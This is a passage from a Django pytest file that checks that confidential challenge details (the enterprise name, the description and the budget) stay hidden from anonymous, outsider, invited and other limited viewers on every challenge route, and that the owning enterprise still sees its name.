        "outsider": member_of(OrganizationFactory()),
        "unconfirmed member": stranger_user,
        "invited": member_of(invited),
        "unassigned expert": ExpertProfileFactory().user,
    }
    return {"open": open_, "running": running, "routes": routes, "viewers": viewers}


def test_every_challenge_route_is_in_the_matrix(summary_world):
    from django.urls import get_resolver

    from tests.test_read_matrix import _route_names

    prefixes = ("challenges:", "api:challenge-", "api:bid-", "api:review-", "api:milestone-")
    routes = {
        name for name in _route_names(get_resolver().url_patterns) if name.startswith(prefixes)
    }
    assert routes == set(summary_world["routes"])


@pytest.mark.parametrize(
    "viewer", ["anonymous", "outsider", "unconfirmed member", "invited", "unassigned expert"]
)
def test_no_challenge_route_shows_a_summary_viewer_the_enterprise_or_the_need(
    client, summary_world, viewer
):
    user = summary_world["viewers"][viewer]
    if user is not None:
        client.force_login(user)
    shown = 0
    for name, kwargs in summary_world["routes"].items():
        response = client.get(reverse(name, kwargs=kwargs))
        body = b"".join(response) if response.streaming else response.content
        text = body.decode("utf-8", "replace")
        assert ENTERPRISE_NAME not in text, (viewer, name)
        assert SECRET_DESCRIPTION not in text and SECRET_BUDGET not in text, (viewer, name)
        shown += response.status_code == 200 and summary_world["open"].title in text
    # Not vacuous: the list and detail pages did show the challenge to everyone logged in.
    assert shown >= (1 if user is None else 3)
    # ... and its enterprise sees its own name there.
    client.force_login(summary_world["open"].created_by)
    assert ENTERPRISE_NAME in client.get(summary_world["open"].get_absolute_url()).content.decode()
